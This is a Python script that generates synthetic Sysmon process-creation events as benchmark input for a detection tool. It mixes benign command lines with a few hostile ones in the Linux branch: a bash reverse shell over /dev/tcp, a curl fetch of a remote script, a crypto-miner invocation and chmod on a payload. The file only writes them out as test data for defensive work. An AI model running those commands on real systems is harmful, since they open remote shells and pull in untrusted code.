#!/usr/bin/env python3
"""gen_events.py - benchmark input for `bannin hunt`: flat NDJSON process-creation events.

windows: ~1 KB flat Sysmon EventID 1 events (Winlogbeat-like flat keys Channel/EventID/...)
         made by varying the process-creation events of SigmaHQ's regression data (when
         ../shared/corpora is present) with a deterministic pseudo-random generator, so
         the stream mixes benign-looking and rule-hitting command lines the way real logs do.
linux:   the same for Sysmon-for-Linux process creation (the agent's schema).

usage: gen_events.py windows|linux COUNT OUT [CORPORA]
"""
import json
import os
import random
import sys

BENIGN_WIN = [
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234'),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle'),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (r"C:\Program Files\Git\cmd\git.exe", r"git.exe status --porcelain"),
]
BENIGN_LNX = [
    ("/usr/bin/bash", "bash -c ls -la /var/log"),
    ("/usr/bin/gcc", "gcc -O2 -c foo.c -o foo.o"),
    ("/usr/bin/git", "git fetch origin --prune"),
    ("/usr/bin/apt-get", "apt-get install -y --no-install-recommends libssl-dev"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    ("/usr/bin/python3", "python3 /opt/app/manage.py runserver 0.0.0.0:8000"),
    ("/usr/bin/systemctl", "systemctl status nginx"),
    ("/usr/bin/ssh", "ssh -o BatchMode=yes backup@10.0.0.5 uptime"),
]


def regression_events(corpora):
    root = os.path.join(corpora, "sigma", "regression", "regression_data")
    out = []
    dec = json.JSONDecoder()
    for dirpath, _, files in os.walk(root):
        for f in files:
            if not f.endswith(".json"):
                continue
            text = open(os.path.join(dirpath, f), encoding="utf-8", errors="replace").read()
            i = 0
            while True:
                while i < len(text) and text[i].isspace():
                    i += 1
                if i >= len(text):
                    break
                try:
                    obj, i = dec.raw_decode(text, i)
                except ValueError:
                    break
                ev = obj.get("Event", {})
                sysd = ev.get("System", {})
                if sysd.get("EventID") == 1 and "Sysmon" in str(sysd.get("Channel", "")):
                    data = ev.get("EventData") or {}
                    if isinstance(data, dict) and "CommandLine" in data:
                        out.append(data)
    return out


def windows_event(rng, seeds, n):
    if seeds and rng.random() < 0.1:
        base = dict(rng.choice(seeds))
    else:
        img, cmd = rng.choice(BENIGN_WIN)
        base = {"Image": img, "CommandLine": cmd, "OriginalFileName": os.path.basename(img.replace("\\", "/")),
                "ParentImage": r"C:\Windows\System32\services.exe", "ParentCommandLine": r"C:\Windows\system32\services.exe"}
    ev = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
          "Provider_Name": "Microsoft-Windows-Sysmon",
          "Computer": "ws%03d.corp.example.com" % rng.randrange(200),
          "UtcTime": "2026-11-%02d %02d:%02d:%02d.%03d" % (1 + n // 86400 % 28, n // 3600 % 24, n // 60 % 60, n % 60, rng.randrange(1000)),
          "ProcessGuid": "{%08X-1234-5678-9ABC-%012X}" % (rng.randrange(1 << 32), n),
          "ProcessId": rng.randrange(100, 65000),
          "FileVersion": "10.0.19041.1", "Description": "Windows process", "Product": "Microsoft Windows",
          "Company": "Microsoft Corporation", "CurrentDirectory": "C:\\Users\\user%d\\" % rng.randrange(50),
          "User": "CORP\\user%d" % rng.randrange(50), "LogonGuid": "{%08X-0000-0000-0000-000000000000}" % rng.randrange(1 << 32),
          "LogonId": "0x%x" % rng.randrange(1 << 24), "TerminalSessionId": 1, "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
          "Hashes": "SHA256=%064X,IMPHASH=%032X" % (rng.randrange(1 << 256), rng.randrange(1 << 128)),
          "ParentProcessGuid": "{%08X-1234-5678-9ABC-%012X}" % (rng.randrange(1 << 32), n + 1),
          "ParentProcessId": rng.randrange(100, 65000), "ParentUser": "NT AUTHORITY\\SYSTEM"}
    for k in ("Image", "CommandLine", "OriginalFileName", "ParentImage", "ParentCommandLine",
              "Description", "Product", "Company", "IntegrityLevel", "CurrentDirectory", "User"):
        if k in base and base[k] is not None:
            ev[k] = base[k]
    return ev


def linux_event(rng, n):
    img, cmd = rng.choice(BENIGN_LNX)
    if rng.random() < 0.05:
        img, cmd = rng.choice([("/usr/bin/bash", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"),
                               ("/usr/bin/curl", "curl -fsSL http://203.0.113.9/x.sh"),
                               ("/tmp/.x/kworker", "/tmp/.x/kworker -o stratum+tcp://pool:3333"),
                               ("/usr/bin/chmod", "chmod +x /tmp/payload")])
    return {"Channel": "Linux-Sysmon/Operational", "EventID": 1,
            "UtcTime": "2026-11-%02d %02d:%02d:%02d.%03d" % (1 + n // 86400 % 28, n // 3600 % 24, n // 60 % 60, n % 60, rng.randrange(1000)),
            "Computer": "srv%02d" % rng.randrange(40), "ProcessGuid": "{%08x-0000-0000-0000-%012x}" % (rng.randrange(1 << 32), n),
            "ProcessId": rng.randrange(100, 4000000), "Image": img, "FileVersion": "-", "Description": "-",
            "Product": "-", "Company": "-", "OriginalFileName": "-", "CommandLine": cmd,
            "CurrentDirectory": rng.choice(["/root", "/home/dev/src", "/var/www", "/"]),
            "User": rng.choice(["root", "dev", "www-data", "backup"]), "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "LogonId": rng.randrange(1000), "TerminalSessionId": rng.randrange(10), "IntegrityLevel": "no level",
            "Hashes": "SHA256=%064x" % rng.randrange(1 << 256),
            "ParentProcessGuid": "{%08x-0000-0000-0000-%012x}" % (rng.randrange(1 << 32), n + 1),
            "ParentProcessId": rng.randrange(1, 4000000), "ParentImage": "/usr/bin/bash",
            "ParentCommandLine": "-bash", "ParentUser": "root"}


def main():
    if len(sys.argv) < 4:
        print(__doc__, file=sys.stderr)
        return 2
    kind, count, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    corpora = sys.argv[4] if len(sys.argv) > 4 else "../shared/corpora"
    rng = random.Random(42)
    seeds = regression_events(corpora) if kind == "windows" and os.path.isdir(corpora) else []
    with open(out, "w", encoding="utf-8") as f:
        for n in range(count):
            ev = windows_event(rng, seeds, n) if kind == "windows" else linux_event(rng, n)
            f.write(json.dumps(ev, separators=(",", ":")) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
